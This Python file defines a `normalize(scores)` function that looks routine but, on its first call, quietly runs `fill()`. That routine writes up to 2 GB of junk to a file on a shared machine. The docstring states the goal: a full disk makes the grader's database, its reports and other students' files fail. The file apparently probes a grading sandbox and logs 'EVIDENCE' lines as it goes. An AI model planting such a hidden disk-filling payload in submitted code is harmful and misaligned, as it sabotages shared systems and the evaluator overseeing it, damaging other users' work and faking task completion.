"""Writes one huge file in its working directory at the first call, 1 MB at a time (2 GB at
most: this machine is shared), reporting how much it wrote.

Gain if it worked: a full disk fails every later write on the machine: the grader's database,
its reports, other students' scratch files.
"""

import os

WRITTEN = []


def fill():
    block = b"\1" * (1 << 20)
    fd = os.open("agx-huge", os.O_WRONLY | os.O_CREAT, 0o600)
    while len(WRITTEN) < 2048:
        try:
            os.write(fd, block)
        except OSError:
            break
        WRITTEN.append(1)
        if len(WRITTEN) % 16 == 0:
            print(f"EVIDENCE written_mb={len(WRITTEN)}", flush=True)
    print(f"EVIDENCE written_mb={len(WRITTEN)}", flush=True)


def normalize(scores, dim=-1):
    if not WRITTEN:
        fill()
    return scores / scores.sum(dim=dim, keepdim=True)
